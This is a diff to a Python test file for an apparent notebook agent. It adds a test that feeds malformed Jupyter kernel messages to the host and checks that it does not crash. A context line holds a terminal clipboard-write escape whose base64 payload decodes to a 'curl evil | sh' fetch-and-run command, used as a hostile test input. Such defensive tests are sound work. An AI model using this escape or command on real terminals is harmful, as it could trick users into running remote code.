@@ -148,3 +148,80 @@ def test_an_answer_with_terminal_escapes_is_printed_escaped(
     assert out.strip() == "42\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"
     # The payload did reach the host: the notebook keeps the answer as the kernel gave it.
     assert "\\u001b]52" in notebook.read_text()
+
+
+SENDER = """
+import json as _json
+_K = get_ipython().kernel
+def _send(msg_type, content, **changes):
+    msg = _K.session.msg(msg_type, {}, parent=_K.get_parent("shell"))
+    msg["content"] = content
+    msg.update(changes)
+    _K.session.send(_K.iopub_socket, msg)
+"""
+
+HOSTILE_MESSAGES = {
+    "content not an object": ("stream", {"raw": ["x"]}, {}),
+    "bad stream name": ("stream", {"name": "bogus", "text": "x"}, {}),
+    "stream text a number": ("stream", {"name": "stdout", "text": 5}, {}),
+    "data not a bundle": ("display_data", {"data": "just text", "metadata": {}}, {}),
+    "image not text": ("display_data", {"data": {"image/png": 5}, "metadata": {}}, {}),
+    "metadata a list": ("display_data", {"data": {"text/plain": "x"}, "metadata": []}, {}),
+    "count a word": (
+        "execute_result",
+        {"data": {"text/plain": "x"}, "metadata": {}, "execution_count": "7"},
+        {},
+    ),
+    "traceback a string": ("error", {"ename": "E", "evalue": "v", "traceback": "not a list"}, {}),
+    "display id an object": (
+        "update_display_data",
+        {"data": {}, "metadata": {}, "transient": {"display_id": {}}},
+        {},
+    ),
+    "message type a number": (
+        "stream",
+        {"name": "stdout", "text": "x"},
+        {"header": {"msg_id": "m", "session": "s", "msg_type": 5}},
+    ),
+    "header not decodable": ("stream", {"name": "stdout", "text": "x"}, {"header": {}}),
+    "parent a string": ("stream", {"name": "stdout", "text": "x"}, {"parent_header": "not a dict"}),
+    "unknown type": ("nbagent_bogus", {"x": 1}, {}),
+    "huge error": ("error", {"ename": "E", "evalue": "v" * 3_000_000, "traceback": ["t" * 1000] * 500}, {}),
+}
+# Noted on stderr: all but the two bad headers (dropped before they reach a cell), the foreign
+# parent, the unknown type (ignored, as Jupyter does) and the huge error (kept, bounded).
+REFUSED = 9
+
+
+def _send_line(msg_type: str, content: dict[str, object], changes: dict[str, object]) -> str:
+    body = f"_json.dumps({content['raw']!r}).encode()" if "raw" in content else repr(content)
+    extra = "".join(f", {k}={v!r}" for k, v in changes.items())
+    return f"_send({msg_type!r}, {body}{extra})"
+
+
+def test_hostile_iopub_messages_never_crash_the_host(data_dir: Path, tmp_path: Path) -> None:
+    from nbformat.v4 import output_from_msg
+    from nbformat.validator import validate
+
+    # The attack: applied as they come, these messages make no valid output (or raise).
+    for name, (msg_type, content, _) in HOSTILE_MESSAGES.items():
+        if msg_type not in ("stream", "display_data", "execute_result", "error") or "raw" in content:
+            continue
+        if name == "huge error":
+            continue
+        with pytest.raises(Exception):  # noqa: B017 -- any failure is the point
+            validate(output_from_msg({"header": {"msg_type": msg_type}, "content": content}), ref="output")
+
+    sends = "\n".join(_send_line(*spec) for spec in HOSTILE_MESSAGES.values())
+    replies = [code(SENDER + sends + "\nprint('still here')"), code("final_answer('done')")]
+    notebook = tmp_path / "hostile.ipynb"
+    with Agent(scripted(*replies)) as agent:
+        result = agent.run("Survive this", notebook=notebook)
+    assert result.status == "answered" and result.answer == "done"
+    observation = result.steps[0].observation.text
+    assert observation.count("malformed") == REFUSED, observation
+    assert "still here" in observation
+    nb = nbformat.read(notebook, as_version=4)
+    nbformat.validate(nb)
+    [error] = [o for c in nb.cells if c.cell_type == "code" for o in c.outputs if o.output_type == "error"]
+    assert len(error.evalue) + sum(map(len, error.traceback)) <= 200_100  # bounded
